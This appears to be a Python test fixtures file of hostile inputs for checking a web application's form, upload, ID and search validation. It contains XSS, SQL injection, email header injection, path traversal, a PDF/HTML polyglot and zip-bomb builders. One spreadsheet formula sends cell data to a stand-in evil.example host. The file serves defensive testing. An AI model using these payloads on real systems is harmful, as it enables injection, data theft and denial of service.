"""Hostile payloads, generated here so nothing binary is committed: texts, addresses, dates and files.

Each is a ``pytest.param`` with a readable id. Zip bombs are built in memory (once per test run).
"""

import functools
import io
import zipfile

import pytest

from tests.site_forms.support import PDF_BYTES, PNG_BYTES, docx_bytes

DOCX_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'

#: Texts HTML forms and JSON can both carry, each with what becomes of it: refused, or stored exactly.
TEXTS = [
    pytest.param(XSS, "stored", id="xss"),
    pytest.param('"><svg onload=alert(1)>', "stored", id="xss-attribute"),
    pytest.param("Robert'); DROP TABLE workflows_application;--", "stored", id="sql-drop"),
    pytest.param("' OR '1'='1' --", "stored", id="sql-or"),
    pytest.param("A" * 1_000_000, "refused", id="one-megabyte"),
    pytest.param("before\x00after", "refused", id="nul"),
    pytest.param("\u202etxt.exe", "stored", id="rtl-override"),
    pytest.param("Z\u0351\u0334\u0327a\u0358\u0315l\u0360g\u0489o", "stored", id="combining-marks"),
    pytest.param("Seoul \U0001f3d9\ufe0f \U0001f469\U0001f3fd\u200d\U0001f4bb", "stored", id="emoji"),
    pytest.param('=HYPERLINK("http://evil.example/?d="&A2, "x")', "stored", id="formula"),
    pytest.param("{{ request.user }} {% debug %}", "stored", id="template-syntax"),
]

#: Only JSON carries these (a browser cannot encode them); always refused.
JSON_ONLY_TEXTS = [
    pytest.param("Kim \ud800", id="lone-surrogate"),
    pytest.param("\udfff\ud800", id="reversed-surrogates"),
]

MALFORMED_ADDRESSES = [
    pytest.param("not-an-address", id="no-at"),
    pytest.param("sam@@example.org", id="double-at"),
    pytest.param("<script>@example.org", id="markup"),
    pytest.param("sam@example.org\r\nBcc: victim@example.org", id="header-injection"),
    pytest.param("a" * 300 + "@example.org", id="too-long"),
    pytest.param("sam@exa mple.org", id="space"),
]

OUT_OF_RANGE_DATES = [
    pytest.param("0000-00-00", id="zero"),
    pytest.param("2026-02-30", id="february-30"),
    pytest.param("99999-01-01", id="year-99999"),
    pytest.param("-0001-01-01", id="negative-year"),
    pytest.param("9" * 400, id="long-number"),
]


def _zip(entries: dict[str, bytes], *, inflated: tuple[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        if inflated is not None:
            name, size = inflated
            with archive.open(name, "w", force_zip64=True) as entry:
                chunk = bytes(1024 * 1024)
                for _ in range(size // len(chunk)):
                    entry.write(chunk)
    return buffer.getvalue()


def _docx_parts() -> dict[str, bytes]:
    return {"[Content_Types].xml": DOCX_CONTENT_TYPES.encode(), "word/document.xml": b"<w:document/>"}


@functools.cache
def docx_inflating_to(megabytes: int) -> bytes:
    """A real-looking DOCX whose one image inflates to ``megabytes`` of zeros (about 1/1000 of it zipped)."""
    return _zip(_docx_parts(), inflated=("word/media/image1.png", megabytes * 1024 * 1024))


@functools.cache
def docx_with_entries(count: int) -> bytes:
    return _zip({**_docx_parts(), **{f"word/media/{index}.xml": b"" for index in range(count)}})


def pdf_html_polyglot() -> bytes:
    """A valid PDF header whose first comment is a web page a browser would run."""
    return PDF_BYTES.replace(b"\n", b"\n%<html><body><script>alert(document.domain)</script></body></html>\n", 1)


#: (file name, content, whether it must be accepted): lying files, empty files, polyglots and zip bombs.
FILES = [
    pytest.param("brief.pdf", PDF_BYTES, True, id="real-pdf"),
    pytest.param("brief.docx", docx_bytes(), True, id="real-docx"),
    pytest.param("brief.pdf", PNG_BYTES, False, id="png-named-pdf"),
    pytest.param("brief.docx", b"MZ\x90\x00" + b"\x00" * 60, False, id="exe-named-docx"),
    pytest.param("brief.pdf", b"<!doctype html><script>alert(1)</script>", False, id="html-named-pdf"),
    pytest.param("brief.pdf", b"", False, id="empty"),
    pytest.param("brief.pdf", pdf_html_polyglot(), False, id="pdf-html-polyglot"),
    pytest.param("brief.docx", docx_inflating_to(200), False, id="zip-bomb-200mb"),
    pytest.param("brief.docx", docx_with_entries(1_001), False, id="zip-1001-entries"),
    pytest.param("../../etc/passwd.pdf", PDF_BYTES, True, id="path-in-name"),
]

#: Values where a query string wants a row or page id: each must be refused (400) or ignored, never a 500.
ODD_IDS = [
    pytest.param("9223372036854775808", id="int64-plus-one"),
    pytest.param("-9223372036854775809", id="int64-minus-one"),
    pytest.param("1" * 30, id="thirty-digits"),
    pytest.param("\u00b2", id="superscript-two"),
    pytest.param("\u0663", id="arabic-indic-three"),
    pytest.param("1e3", id="exponent"),
    pytest.param("0x10", id="hex"),
]

#: Full-text search queries that are a syntax error to a database's own query language (SQLite FTS5, PostgreSQL).
ODD_SEARCHES = [
    pytest.param("\x00", id="nul"),
    pytest.param('a"b', id="unbalanced-quote"),
    pytest.param('"', id="lone-quote"),
    pytest.param("a AND", id="dangling-and"),
    pytest.param("NEAR(a b", id="open-near"),
    pytest.param("*", id="star"),
    pytest.param("a:b", id="column-filter"),
    pytest.param("(((", id="parentheses"),
    pytest.param("!&|<->", id="tsquery-operators"),
]
